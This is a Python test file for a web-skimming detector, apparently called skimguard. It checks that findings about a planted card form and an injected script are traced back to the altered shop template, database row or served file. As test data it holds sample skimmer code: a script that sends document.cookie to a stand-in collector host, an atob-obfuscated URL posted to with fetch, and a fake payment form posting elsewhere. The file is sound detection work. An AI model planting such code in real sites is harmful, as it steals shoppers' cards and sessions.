"""Correlation: browser findings linked to the template file or database row that explains them.

The main case replays the demo shop's fake-form scenario (founding incident 2): the attacker
altered the shop's own payment template to add a card form posting to ``collect.evil.test`` and a
script that hides the real form. The browser findings are produced by the real detectors from a
capture of that page (as the scanner records it), the server side is a shop tree holding the
altered template, and a database row holding the same injection.
"""

from __future__ import annotations

import os
import re
from datetime import UTC, datetime
from pathlib import Path

from test_db_shops import build_magento2

from skimguard.demo.shop import CARD_FIELDS, FAKE_FORM, FAKE_FORM_SCRIPT, PAYMENT_MAIN
from skimguard.detect.registry import run_detectors
from skimguard.models import Finding, ScriptKind
from skimguard.testing.factories import (
    APP_JS,
    APP_URL,
    VENDOR_JS,
    VENDOR_URL,
    card_form,
    cart_page,
    make_capture,
    make_context,
    make_script,
    payment_page,
)
from skimguard.webroot.correlate import Link, correlate, links_by_finding, squeeze
from skimguard.webroot.database import DbScanOptions, scan_source

PORT = 8123
COLLECT = f"http://collect.evil.test:{PORT}/pay"
FAKE_BODY = re.search(r"<script>(.*)</script>", FAKE_FORM_SCRIPT, re.S).group(1)  # type: ignore[union-attr]
MTIME = datetime(2025, 3, 14, 2, 17, 5, tzinfo=UTC)


def fill(template: str, **values: object) -> str:
    for key, value in values.items():
        template = template.replace("{{" + key + "}}", str(value))
    return template


def altered_template() -> str:
    """The payment template as the attacker left it: the demo shop's fake form and its script."""
    fields = fill(CARD_FIELDS, p="", total="{{ total }}")
    fake = fill(FAKE_FORM, port=PORT, fields=fields)
    main = fill(PAYMENT_MAIN, notice="", ship_to="{{ ship_to }}", total="{{ total }}",
                real_fields=fill(CARD_FIELDS, p="x-", total="{{ total }}"), fake_form=fake,
                real_attrs=' style="display:none"')  # fmt: skip
    return "{% extends 'default_frame.twig' %}\n{% block main %}\n" + main + "\n{% endblock %}\n" + FAKE_FORM_SCRIPT


def browser_findings() -> list[Finding]:
    """What the scanner reports on the attacked payment page (real detectors, against the clean
    baseline): the planted card form and the new inline script."""
    url = "http://shop.test/checkout/payment"
    fake_script = make_script(None, FAKE_BODY, kind=ScriptKind.INLINE, frame_url=url)
    page = payment_page(
        scripts=(make_script(APP_URL, APP_JS, frame_url=url), make_script(VENDOR_URL, VENDOR_JS, frame_url=url),
                 fake_script),
        forms=(card_form(frame_url=url), card_form(COLLECT, id="card-form", frame_url=url)),
    )  # fmt: skip
    current = make_capture([cart_page(), page], bodies=[FAKE_BODY])
    findings = run_detectors(make_context(current, baseline=make_capture()))
    return [f for f in findings if f.rule_id in ("SG301", "SG104")]


def shop_tree(root: Path) -> list[tuple[str, str, datetime | None]]:
    files = {
        "app/template/default/Shopping/index.twig": altered_template(),
        "app/template/default/Shopping/confirm.twig": "{% block main %}<h1>ご注文内容の確認</h1>{% endblock %}",
        "app/template/default/Block/footer.twig": '<footer><a href="https://shop.test/help">help</a></footer>',
        "html/template/default/assets/js/function.js": "$(function(){$('.ec-cartRow').on('click',function(){});});",
        "var/log/prod.log": "[2025-03-14] request.INFO: POST /shopping/confirm notcollect.evil.test.example",
    }
    items = []
    for rel, text in files.items():
        path = root / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text, encoding="utf-8")
        os.utime(path, (MTIME.timestamp(), MTIME.timestamp()))
        items.append((rel, path.read_text("utf-8"), datetime.fromtimestamp(path.stat().st_mtime, UTC)))
    return items


def brief(links: tuple[Link, ...]) -> list[tuple[str, str, str, str]]:
    return [(link.rule_id, link.location, link.reason, link.needle) for link in links]


def test_demo_fake_form_is_linked_to_the_altered_template(tmp_path: Path) -> None:
    findings = browser_findings()
    by_rule = {f.rule_id: f for f in findings}
    assert sorted(by_rule) == ["SG104", "SG301"]
    form, script = by_rule["SG301"], by_rule["SG104"]
    assert (form.severity.label, form.destination, form.subject) == ("critical", "collect.evil.test", "form#card-form")
    sha = script.evidence["sha256"]

    links = correlate(findings, shop_tree(tmp_path), body={sha: FAKE_BODY.encode()}.get, own_hosts=("shop.test",))
    template = "app/template/default/Shopping/index.twig"
    # in the order of the findings (the scanner's: most severe first); nothing else in the tree
    assert brief(links) == [
        ("SG301", template, "form-action", COLLECT),
        ("SG104", template, "code", f"script {sha[:12]}"),
    ]
    grouped = links_by_finding(links)
    (form_link,) = grouped[form.fingerprint]
    assert form_link.mtime == MTIME  # window evidence for the incident
    assert f"collect.evil.test:{PORT}/pay" in form_link.excerpt
    (code_link,) = grouped[script.fingerprint]
    assert 'getElementById("card-form")' in code_link.excerpt
    assert code_link.to_dict()["mtime"] == "2025-03-14T02:17:05+00:00"


def test_demo_fake_form_is_linked_to_a_database_row(tmp_path: Path) -> None:
    url = f"sqlite:///{tmp_path / 'shop.db'}"
    # the same injection, stored in Magento's absolute footer instead of a template
    injection = fill(FAKE_FORM, port=PORT, fields=fill(CARD_FIELDS, p="", total="1,650")) + FAKE_FORM_SCRIPT
    build_magento2(url, footer=injection)
    result = scan_source(url, DbScanOptions(keep_texts=True))
    findings = browser_findings()
    sha = next(f for f in findings if f.rule_id == "SG104").evidence["sha256"]
    items = [(t.location, t.text, t.mtime) for t in result.texts]
    links = correlate(findings, items, body={sha: FAKE_BODY.encode()}.get, own_hosts=("shop.test",))
    row = "core_config_data[config_id=4].value"
    assert sorted(brief(links)) == [
        ("SG104", row, "code", f"script {sha[:12]}"),
        ("SG301", row, "form-action", COLLECT),
    ]
    assert all(link.mtime is None for link in links)


def test_without_the_body_the_collector_host_still_links() -> None:
    findings = browser_findings()
    items = [("footer.html", "<script>x('//collect.evil.test/i.gif')</script>", None)]
    links = correlate(findings, items)
    assert brief(links) == [("SG301", "footer.html", "host", "collect.evil.test")]


def test_host_matching_is_whole_host_names_only() -> None:
    findings = [f for f in browser_findings() if f.rule_id == "SG301"]
    for text in ("notcollect.evil.test", "collect.evil.test.example.com", "collect.evil.tester", "xcollect.evil.test"):
        assert correlate(findings, [("a", text, None)]) == (), text
    for text in ("collect.evil.test", "https://COLLECT.EVIL.TEST/x", "'collect.evil.test'", "host=collect.evil.test."):
        assert [link.reason for link in correlate(findings, [("a", text, None)])] == ["host"], text


def test_own_host_script_same_bytes_served_file_and_including_template() -> None:
    from skimguard.detect.registry import rule

    new_body = APP_JS + "\n;(function(){new Image().src='https://collect.evil.test/a?'+document.cookie})();\n"
    sha = __import__("hashlib").sha256(new_body.encode()).hexdigest()
    changed = rule("SG102").finding(
        "shop",
        page="payment",
        subject="http://shop.test/static/app.js",
        script_url=APP_URL,
        destination="collect.evil.test",
        evidence={"url": APP_URL, "new_sha256": sha, "new_hosts": ["collect.evil.test"]},
    )
    items = [
        ("htdocs/static/app.js", new_body, None),  # the served file, altered
        ("htdocs/static/app.js.bak", APP_JS, None),  # not the served path, no link
        ("templates/layout.html", '<script src="/static/app.js?v=3"></script>', None),
        ("templates/other.html", '<script src="/static/app.json"></script>', None),
        ("notes/js.txt", "see static/app.js for details", None),
    ]
    links = correlate([changed], items, body={sha: new_body.encode()}.get, own_hosts=("shop.test",))
    assert brief(links) == [
        ("SG102", "htdocs/static/app.js", "same-bytes", f"script {sha[:12]}"),
        ("SG102", "templates/layout.html", "script-path", "/static/app.js"),
    ]


def test_code_matches_ignore_whitespace_quotes_and_case_but_need_enough_code() -> None:
    assert squeeze(" A = 'b' ;\n\tC(`d`) ") == 'a="b";c("d")'
    findings = [f for f in browser_findings() if f.rule_id == "SG104"]
    sha = findings[0].evidence["sha256"]
    reformatted = FAKE_BODY.replace('"', "'").replace(";", ";\n    ").upper()
    links = correlate(findings, [("theme.js", reformatted, None)], body={sha: FAKE_BODY.encode()}.get)
    assert [link.reason for link in links] == ["code"]
    tiny = [f for f in browser_findings() if f.rule_id == "SG104"]
    assert correlate(tiny, [("x.js", "f()", None)], body={sha: b"f()"}.get) == ()


def test_a_collector_hidden_behind_atob_is_found_in_the_decoded_text() -> None:
    findings = [f for f in browser_findings() if f.rule_id == "SG301"]
    hidden = '<script>var u=atob("aHR0cDovL2NvbGxlY3QuZXZpbC50ZXN0OjgxMjMvcGF5");fetch(u,{method:"POST"})</script>'
    links = correlate(findings, [("app/design/footer.phtml", hidden, None)])
    assert brief(links) == [("SG301", "app/design/footer.phtml", "form-action-decoded", COLLECT)]


def test_server_and_health_findings_are_not_linked_and_bodies_may_fail() -> None:
    from skimguard.webroot.db_rules import SG720

    server = SG720.finding("shop", page=None, subject="t:1:v", destination="collect.evil.test")

    def broken(_sha: str) -> bytes | None:
        raise RuntimeError("store down")

    assert correlate([server], [("a", "collect.evil.test", None)]) == ()
    findings = browser_findings()
    links = correlate(findings, [("a", "collect.evil.test", None)], body=broken)
    assert [link.rule_id for link in links] == ["SG301"]
